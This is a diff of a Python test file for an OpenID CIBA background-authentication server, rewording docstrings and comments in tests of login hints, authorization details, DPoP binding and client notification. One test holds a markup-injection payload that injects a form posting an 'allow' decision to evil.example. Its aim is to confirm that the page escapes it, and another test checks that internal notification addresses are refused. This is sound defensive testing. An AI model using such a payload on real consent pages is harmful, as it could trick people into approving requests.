@@ -1,4 +1,4 @@
-"""Requests in the background (OpenID CIBA): whom they name, what the person reads, floods, and telling the client."""
+"""Background requests (OpenID CIBA): whom they name, what the person reads, floods, and notifying the client."""
 
 from __future__ import annotations
 
@@ -24,7 +24,7 @@ from tests.support.person import Person, forms_of, without_own_markup
 from tests.support.processes import Place, free_port
 from tests.support.rooms.ciba_room import nested_details
 
-# Whom it names
+# Whom a request names
 
 
 HINTS: dict[str, dict[str, str | None]] = {
@@ -50,7 +50,7 @@ HINTS: dict[str, dict[str, str | None]] = {
 
 
 async def hint(one: Shop, text: str) -> str:
-    """The hint with what its places stand for."""
+    """The hint with its placeholders filled in."""
     now = int(time.time())
     claims = {"iss": one.target.url, "sub": one.person_id, "aud": one.client["client_id"], "iat": now, "exp": now + 600}
     if text == "{none}":
@@ -122,7 +122,7 @@ DETAILS: dict[str, str] = {
 
 @pytest.mark.parametrize("what", DETAILS)
 async def test_details_are_shown_as_they_are_or_refused(target: Target, what: str) -> None:
-    """And whatever they are, the person's pages open."""
+    """Whatever they contain, the person's pages still open."""
     one = await shop(target)
     answer = await one.post(authorization_details=DETAILS[what])
     assert answer.status_code in {200, 400}, answer.text
@@ -247,7 +247,7 @@ async def test_a_token_is_bound_to_the_key_of_its_own_proof(target: Target) -> N
     assert error(await target.token({**form, "auth_req_id": again}, dpop=used)) == "invalid_dpop_proof"
 
 
-# Telling the client
+# Notifying the client
 
 
 @dataclass
@@ -283,7 +283,7 @@ INSIDE = (
 
 
 async def test_no_client_is_told_inside_the_network(plain: Plain, target: Target) -> None:
-    """An address that leads inside is refused when it is entered, or not called; the sandbox, which may, does call."""
+    """An internal address is refused when entered, or never called; the sandbox, which may call it, does."""
     async with scripted_server(lambda _: Reply(204)) as inside:
 
         async def add_asker(number: int, address: str) -> None:
@@ -346,7 +346,7 @@ async def test_a_token_for_telling_is_one_header_word_and_stays_unseen(target: T
 
 
 async def test_a_form_of_the_page_has_no_way_out(target: Target) -> None:
-    """A hostile detail makes no further form, field, or button."""
+    """A hostile detail adds no form, field, or button."""
     one = await shop(target)
     text = '"></p></form><form action="https://evil.example/approvals/"><button name="decision" value="allow">'
     await one.ask(authorization_details=json.dumps([{"type": "payment", text: text}]))
